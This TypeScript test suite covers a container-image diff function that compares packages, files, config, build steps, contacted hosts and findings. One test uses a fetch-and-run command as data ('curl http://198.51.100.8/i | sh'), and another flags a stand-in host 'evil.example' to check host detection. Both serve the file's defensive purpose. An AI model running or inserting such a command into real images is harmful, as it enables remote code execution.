import { createHash } from 'node:crypto';

import { type Finding, findingOf, type ImagePackage } from '@tidewaiter/domain';
import type { ImageConfig, LayerEntry } from '@tidewaiter/oci';

import type { NamedHosts } from '../files/named-hosts.js';
import { diffImages } from './image-diff.js';
import type { ImageState } from './image-state.js';
import { redactConfig } from './stored-config.js';

const file = (path: string, sha256: string, more: Partial<LayerEntry> = {}): LayerEntry => ({
  path,
  type: 'file',
  mode: 0o644,
  uid: 0,
  gid: 0,
  size: 1,
  sha256,
  ...more,
});
const deb = (name: string, version: string, state: 'present' | 'shadowed' = 'present') =>
  ({ type: 'deb', name, version, state }) as ImagePackage;
const hole = (fingerprint: string, more: Partial<Finding> = {}) =>
  findingOf({
    kind: 'vulnerability',
    id: fingerprint,
    severity: 'high',
    title: fingerprint,
    fingerprint,
    layer: 0,
    state: 'present',
    ...more,
  });
const config: ImageConfig = {
  platform: 'linux/amd64',
  diffIds: [],
  history: [],
  user: 'app',
  env: ['PATH=/bin', 'TOKEN=old-value'],
  entrypoint: ['/app'],
  cmd: [],
  labels: { version: '1' },
  exposedPorts: ['80/tcp'],
};
const nothing: ImageState = { os: null, createdAt: null, packages: [], findings: [], layers: [], config: null };
const of = (value: string) => createHash('sha256').update(value).digest('hex');
const kept = (changes: Partial<ImageConfig> = {}, by = 'test') =>
  redactConfig({ ...config, ...changes }, { mask: (text) => text.replaceAll('hunter2', '*'), fingerprint: { by, of } });
const layer = (entries: LayerEntry[] | null, diffId: string | null = null, hosts?: NamedHosts[]) => ({
  diffId,
  entries,
  ...(hosts && { hosts }),
});

describe('diffImages', () => {
  it('finds no difference between an image and itself', () => {
    const state: ImageState = {
      os: { id: 'debian', versionId: '12', name: 'Debian 12', idLike: [] },
      createdAt: null,
      packages: [deb('a', '1')],
      findings: [hole('x')],
      layers: [layer([file('a', '1')], 'sha256:a', [{ path: 'a', hosts: ['a.io'] }])],
      config: kept({ history: [{ createdBy: 'RUN curl https://b.io', emptyLayer: false }] }),
    };
    const base = { name: null, digest: null, os: 'debian 12', layers: 1 };
    expect(diffImages(state, state)).toEqual({
      isPartial: false,
      packages: [],
      files: [],
      config: [],
      steps: [],
      base: { isChanged: false, before: base, after: base, commonLayers: 1 },
      hosts: [],
      findings: { introduced: [], newlyPublished: [], resolved: [], unchanged: state.findings },
    });
  });

  it('compares packages by name, and each of several versions', () => {
    const before = [
      deb('a', '1'),
      deb('b', '1'),
      deb('c', '1'),
      deb('c', '2'),
      deb('gone', '1'),
      deb('s', '1', 'shadowed'),
    ];
    const after = [deb('a', '1'), deb('b', '2'), deb('c', '2'), deb('c', '3'), deb('new', '1')];
    expect(diffImages({ ...nothing, packages: before }, { ...nothing, packages: after }).packages).toEqual([
      { type: 'deb', name: 'b', before: '1', after: '2' },
      { type: 'deb', name: 'c', before: '1', after: '3' },
      { type: 'deb', name: 'gone', before: '1', after: null },
      { type: 'deb', name: 'new', before: null, after: '1' },
    ]);
  });

  it('compares the visible files, independent of the layers', () => {
    const before = [[file('same', '1'), file('edited', '1'), file('removed', '1'), file('bits', '1')]];
    const after = [
      [file('same', '2'), file('edited', '1'), file('removed', '1'), file('bits', '1')],
      [file('same', '1'), file('edited', '2'), file('bits', '1', { mode: 0o4755 }), file('added', '1')],
      [file('removed', '', { whiteout: 'file' })],
    ];
    const layers = (all: LayerEntry[][]) => all.map((entries) => layer(entries));
    const common = { kind: 'other', sizeBytes: 1, isNewSetuid: false };
    const plain = { ...common, modeBefore: '0644', modeAfter: '0644' };
    const hashes = (sha256Before: string | null, sha256After: string | null) => ({ sha256Before, sha256After });
    expect(diffImages({ ...nothing, layers: layers(before) }, { ...nothing, layers: layers(after) }).files).toEqual([
      { ...plain, path: 'added', change: 'added', modeBefore: null, ...hashes(null, '1') },
      {
        ...{ ...plain, path: 'bits', change: 'mode', kind: 'setuid', modeAfter: '4755', isNewSetuid: true },
        ...hashes('1', '1'),
      },
      { ...plain, path: 'edited', change: 'content', ...hashes('1', '2') },
      { ...plain, path: 'removed', change: 'removed', modeAfter: null, ...hashes('1', null) },
    ]);
  });

  it.each<[string, Partial<LayerEntry>, string]>([
    ['usr/bin/x', { mode: 0o755 }, 'program'],
    ['opt/app/bin/x', {}, 'program'],
    ['app/run', { mode: 0o755 }, 'program'],
    ['usr/lib/libx.so.1', {}, 'library'],
    ['etc/cron.d/x', {}, 'startup'],
    ['etc/ld.so.preload', {}, 'startup'],
    ['root/.ssh/authorized_keys', {}, 'startup'],
    ['usr/share/doc/x/run', {}, 'documentation'],
    ['usr/share/doc/x/run', { mode: 0o755 }, 'program'],
    ['app/x.pyc', {}, 'library'],
    ['app/x.py', {}, 'script'],
    ['app/x.json', {}, 'other'],
    ['app/link', { type: 'symlink', mode: 0o777 }, 'other'],
    ['usr/bin', { type: 'directory', mode: 0o755 }, 'other'],
    ['var/mail', { type: 'directory', mode: 0o2755 }, 'other'],
  ])('classifies a new %s %j as %s', (path, more, kind) => {
    const after = { ...nothing, layers: [layer([file(path, '1', more)])] };
    expect(diffImages({ ...nothing, layers: [layer([])] }, after).files).toMatchObject([{ kind, isNewSetuid: false }]);
  });

  it('returns null for unknown parts instead of no change', () => {
    const {
      files,
      config: changes,
      steps,
      hosts,
      base,
    } = diffImages(
      { ...nothing, layers: [layer(null)] },
      { ...nothing, layers: [layer([file('a', '1')])], config: kept() },
    );
    expect({ files, changes, steps, hosts, changed: base.isChanged }).toEqual({
      files: null,
      changes: null,
      steps: null,
      hosts: null,
      changed: null,
    });
  });

  describe('new hosts of an image', () => {
    const at = (path: string, ...hosts: string[]) => ({ path, hosts });
    const state = (steps: string[], ...layers: NamedHosts[][]): ImageState => ({
      ...nothing,
      config: kept({ history: steps.map((createdBy) => ({ createdBy, emptyLayer: false })) }),
      layers: layers.map((hosts) =>
        layer(
          hosts.map(({ path }) => file(path, '1')),
          null,
          hosts,
        ),
      ),
    });

    it('include those of its visible files and its build', () => {
      const before = state(['RUN curl https://known.io'], [at('a.js', 'old.io')]);
      const after = state(
        ['RUN curl https://new-step.io https://old.io'],
        [at('hidden.js', 'hidden.io'), at('b.js', 'new.io', 'known.io')],
        [at('c.js', 'new.io'), at('hidden.js')],
      );
      expect(diffImages(before, after).hosts).toEqual([
        { host: 'new-step.io', namedIn: ['build step'] },
        { host: 'new.io', namedIn: ['b.js', 'c.js'] },
      ]);
    });

    it('include those of the command, unless an older version stored no such hosts', () => {
      const started = (cmd: string[]) => ({ ...nothing, layers: [], config: kept({ cmd }) });
      const before = started(['node', '/app.js']);
      const after = started(['sh', '-c', 'curl http://198.51.100.8/i | sh; node /app.js']);
      expect(diffImages(before, after).hosts).toEqual([{ host: '198.51.100.8', namedIn: ['command'] }]);
      const { commandHosts: _, ...old } = before.config;
      expect(diffImages({ ...before, config: old }, after).hosts).toEqual([]);
    });

    it('list build, started files and own code first', () => {
      const files = [at('node_modules/x/a.js', 'a.io', 'c.io'), at('app.js', 'c.io'), at('etc/cron.d/x', 'd.io')];
      const { hosts } = diffImages(state([], []), state(['RUN curl https://e.io'], files));
      expect(hosts?.map(({ host }) => host)).toEqual(['e.io', 'd.io', 'c.io', 'a.io']);
      expect(hosts?.[2]?.namedIn).toEqual(['app.js', 'node_modules/x/a.js']);
    });

    it('are unknown if one image was not searched for hosts', () => {
      const unknown = { ...state(['RUN curl https://a.io']), layers: [layer([file('a', '1')])] };
      const after = state(['RUN curl https://b.io'], [at('b.js', 'c.io')]);
      expect(diffImages(unknown, after).hosts).toBeNull();
    });

    it('come only from files if one build is unknown', () => {
      const before = { ...state([], [at('a.js', 'a.io')]), config: null };
      const after = state(['RUN curl https://b.io'], [at('a.js', 'c.io')]);
      expect(diffImages(before, after).hosts).toEqual([{ host: 'c.io', namedIn: ['a.js'] }]);
    });
  });

  describe('baseChange', () => {
    const on = (diffIds: string[], more: Partial<ImageState> = {}): ImageState => ({
      ...nothing,
      layers: diffIds.map((diffId) => layer([], diffId)),
      ...more,
    });
    const labeled = (name: string, digest: string) =>
      kept({
        labels: { 'org.opencontainers.image.base.name': name, 'org.opencontainers.image.base.digest': digest },
      });
    const os = (versionId: string) => ({ id: 'debian', versionId, name: 'Debian', idLike: [] });

    it.each<[string, ImageState, ImageState, boolean | null, number]>([
      ['is the same with the same lowest layer', on(['a', 'b', 'c']), on(['a', 'b', 'd']), false, 2],
      ['is another with another lowest layer', on(['a', 'b']), on(['x', 'b']), true, 0],
      ['is unchanged for a single layer', on(['a']), on(['x']), false, 0],
      [
        'is another if its label names another',
        on(['a'], { config: labeled('b', '1') }),
        on(['a'], { config: labeled('b', '2') }),
        true,
        1,
      ],
      ['is another with another release', on(['a'], { os: os('11') }), on(['b'], { os: os('12') }), true, 0],
      ['is unknown for file trees', { ...nothing, layers: [layer([])] }, { ...nothing, layers: [layer([])] }, null, 0],
    ])('detects %s', (_, before, after, isChanged, commonLayers) => {
      expect(diffImages(before, after).base).toMatchObject({ isChanged, commonLayers });
    });
  });

  it('lists the steps that only one build has, as often as it has them', () => {
    const build = (...steps: string[]): ImageState => ({
      ...nothing,
      config: kept({ history: steps.map((createdBy) => ({ createdBy, emptyLayer: true })) }),
    });
    const { steps } = diffImages(build('FROM', 'RUN a', 'RUN a', 'RUN b'), build('FROM', 'RUN a', 'RUN c hunter2'));
    expect(steps).toEqual([
      { change: 'removed', step: 'RUN a' },
      { change: 'removed', step: 'RUN b' },
      { change: 'added', step: 'RUN c *' },
    ]);
  });

  it('compares values of variables only by fingerprints of the same key', () => {
    const other = (by: string) => ({ ...nothing, config: kept({ env: ['PATH=/bin', 'TOKEN=other'] }, by) });
    const before = { ...nothing, config: kept() };
    expect(diffImages(before, other('test')).config).toEqual([{ field: 'env TOKEN', before: 'set', after: 'set' }]);
    expect(diffImages(before, other('another')).config).toEqual([]);
  });

  it('reports the known origins of both images', () => {
    const origin = { revision: 'a1b2c3', builder: null, signers: ['release'] };
    expect(diffImages(nothing, { ...nothing, origin }).origin).toEqual({ before: null, after: origin });
  });

  it('contains no values of variables and labels', () => {
    const after = {
      ...config,
      user: 'root',
      cmd: ['serve', '--token=new-value'],
      env: ['TOKEN=new-value', 'EXTRA=x'],
      labels: { version: '2' },
      exposedPorts: ['80/tcp', '22/tcp'],
    };
    const { config: changes } = diffImages({ ...nothing, config: kept() }, { ...nothing, config: kept(after) });
    expect(changes).toEqual([
      { field: 'cmd', before: '', after: 'serve with 1 argument' },
      { field: 'env EXTRA', before: null, after: 'set' },
      { field: 'env PATH', before: 'set', after: null },
      { field: 'env TOKEN', before: 'set', after: 'set' },
      { field: 'label version', before: 'set', after: 'set' },
      { field: 'port 22/tcp', before: null, after: 'exposed' },
      { field: 'user', before: 'app', after: 'root' },
    ]);
    expect(JSON.stringify(changes)).not.toMatch(/value/);
  });

  it('compares findings by fingerprint, ignoring shadowed vulnerabilities but not shadowed secrets', () => {
    const secret = hole('s', { kind: 'secret', state: 'shadowed' });
    const before = [hole('both'), hole('fixed'), hole('hidden', { state: 'shadowed' })];
    const after = [hole('both'), hole('hidden'), secret];
    const { introduced, resolved, unchanged } = diffImages(
      { ...nothing, findings: before },
      { ...nothing, findings: after },
    ).findings;
    expect([introduced, resolved, unchanged].map((list) => list.map(({ id }) => id))).toEqual([
      ['hidden', 's'],
      ['fixed'],
      ['both'],
    ]);
  });

  describe('an image with an unread layer', () => {
    const base = layer([file('etc/hosts', 'h'), file('app/run.py', 'r1')], 'base');
    const own = layer([file('app/lib.so', 'l1')], 'own', []);
    const before = { ...nothing, layers: [base, own, layer([file('etc/hosts', 'h2')], 'top', [])] };
    const after = (...layers: ReturnType<typeof layer>[]) => ({ ...nothing, layers });
    const unread = layer(null, 'unread');
    const changesOf = (state: ImageState) => diffImages(before, state).files?.map(({ path, change }) => [path, change]);

    it('has the changes of its other new layers', () => {
      const named = layer([file('app/lib.so', 'l2'), file('app/new.sh', 'n')], 'own2', [
        { path: 'app/new.sh', hosts: ['evil.example'] },
      ]);
      const state = after(base, unread, named);
      expect(changesOf(state)).toEqual([
        ['app/lib.so', 'content'],
        ['app/new.sh', 'added'],
      ]);
      expect(
        diffImages({ ...before, layers: before.layers.map((each) => ({ ...each, hosts: [] })) }, state),
      ).toMatchObject({
        isPartial: true,
        hosts: [{ host: 'evil.example', namedIn: ['app/new.sh'] }],
      });
    });

    it('has no removals and no changes of a common layer', () => {
      expect(changesOf(after(base, unread))).toEqual([]);
    });

    it('is not compared if none of it was read, or with a partially read one', () => {
      expect(diffImages(before, after(unread))).toMatchObject({ isPartial: false, files: null, hosts: null });
      expect(diffImages(after(base, unread), before)).toMatchObject({ isPartial: false, files: null, hosts: null });
    });
  });
});
